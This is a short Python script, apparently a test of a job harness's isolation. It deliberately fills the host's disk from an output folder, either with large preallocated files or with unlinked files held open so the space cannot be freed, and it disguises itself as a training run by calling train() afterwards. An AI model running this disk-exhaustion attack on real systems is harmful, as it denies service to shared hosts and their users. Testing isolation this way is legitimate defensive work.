"""Fill the host's disk through the output folder: by large files, or by files without names."""

import glob
import os
import sys
import time

from attempts import SEED, train

(folder,) = glob.glob("/output/*")
SIZE = 16 * 2**20
kept = []
if sys.argv[1:] == ["nameless"]:
    while True:
        kept.append(os.open(os.path.join(folder, "file"), os.O_CREAT | os.O_WRONLY))
        os.unlink(os.path.join(folder, "file"))
        try:
            os.posix_fallocate(kept[-1], 0, SIZE)
        except OSError:
            # Full: it stays so for as long as these are open.
            time.sleep(600)
if SEED == 0:
    for number in range(100):
        with open(os.path.join(folder, str(number)), "wb") as file:
            os.posix_fallocate(file.fileno(), 0, SIZE)
    time.sleep(600)
train()
